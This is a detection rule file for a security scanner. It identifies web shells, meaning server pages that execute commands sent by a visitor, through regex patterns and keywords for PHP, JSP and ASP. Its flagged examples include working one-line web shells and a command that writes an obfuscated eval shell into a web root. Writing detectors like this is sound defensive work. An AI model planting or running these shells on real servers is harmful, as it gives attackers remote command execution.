import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_143",
  title: "A web page that runs what the visitor sends",
  why: "It is one line, it sits among a thousand files, and it gives a shell to everyone who knows its name.",
  fix: "Remove it, and treat the server as lost.",
  severity: "critical",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI05", "ASI10"],
    mcp: ["MCP05"],
    cwe: ["CWE-506", "CWE-78"],
    see: ["https://attack.mitre.org/techniques/T1505/003/"],
  },
  keywords: [
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "getparameter",
    "request.item",
    'request("',
    "<%eval",
    "<%execute",
    "php://input",
  ],
  match: [
    /\b(?:system|exec|shell_exec|passthru|eval|assert|popen|proc_open|pcntl_exec|include|require|create_function)\s{0,2}\(?\s{0,3}(?:@?(?:base64_decode|gzinflate|str_rot13|stripslashes)\s{0,2}\(\s{0,2}){0,3}["'\sa-z.]{0,12}\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b/i,
    /`\s{0,2}\$_(?:GET|POST|REQUEST)\[/,
    /\bgetRuntime\(\)\.exec\s{0,2}\(\s{0,2}request\.getParameter\b/,
    /<%\s{0,3}(?:eval|execute)\s{0,2}\(?\s{0,2}request\b/i,
    /\b(?:eval|assert)\s{0,2}\(\s{0,2}(?:file_get_contents|fread)\s{0,2}\(\s{0,2}["']php:\/\/input/i,
  ],
  examples: {
    flags: [
      { text: "<?php system($_GET['c']); ?>", kind: "tool_argument" },
      { text: "echo '<?php @eval(base64_decode($_POST[\"x\"])); ?>' > /var/www/html/i.php", kind: "command" },
      { text: '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>', kind: "document" },
      { text: '<%eval request("a")%>', kind: "tool_result" },
    ],
    passes: [{ text: "<?php echo htmlspecialchars($_GET['name']); ?>", kind: "document" }, {
      text: 'String name = request.getParameter("name");',
      kind: "document",
    }, { text: '$id = (int) $_GET["id"]; include "header.php";', kind: "document" }],
  },
});
